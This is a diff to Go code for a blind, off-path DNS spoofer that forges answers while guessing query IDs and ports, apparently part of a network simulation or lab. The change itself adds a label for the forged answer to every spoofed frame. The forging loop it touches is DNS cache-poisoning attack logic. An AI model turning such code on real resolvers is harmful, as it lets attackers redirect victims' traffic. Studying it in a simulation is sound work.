@@ -57,8 +57,9 @@ type BlindSpoofConfig struct {
 // random IDs and ports (RFC 5452) almost never. Being off-path it cannot
 // see whether it won; the victim's lookup says. Safe for concurrent use.
 type BlindSpoofer struct {
-	cfg  BlindSpoofConfig
-	wire []byte // the forged answer with ID 0
+	cfg    BlindSpoofConfig
+	wire   []byte // the forged answer with ID 0
+	answer string // what it claims, for capture notes (dnsAnswerText)
 
 	mu     sync.Mutex
 	rounds int
@@ -111,7 +112,7 @@ func NewBlindSpoofer(cfg BlindSpoofConfig) (*BlindSpoofer, error) {
 	if err != nil {
 		return nil, fmt.Errorf("attacker: packing the forged answer: %w", err)
 	}
-	return &BlindSpoofer{cfg: cfg, wire: wire}, nil
+	return &BlindSpoofer{cfg: cfg, wire: wire, answer: dnsAnswerText(m)}, nil
 }
 
 // GuessSpace is how many (ID, port) pairs one round covers.
@@ -142,7 +143,8 @@ func (b *BlindSpoofer) Run(ctx context.Context) error {
 			for i := range b.cfg.TXIDs {
 				id := b.cfg.FirstTXID + uint16(i)
 				wire[0], wire[1] = byte(id>>8), byte(id)
-				b.cfg.NIC.WriteFrame(udpFrame(srcMAC, dstMAC, b.cfg.Server, dst, id, wire))
+				b.cfg.NIC.WriteFrame(noteFrame(b.cfg.NIC, udpFrame(srcMAC, dstMAC, b.cfg.Server, dst, id, wire),
+					"blind-spoofed DNS answer %s (guessing query ID %d, port %d)", b.answer, id, dst.Port()))
 				n++
 			}
 		}
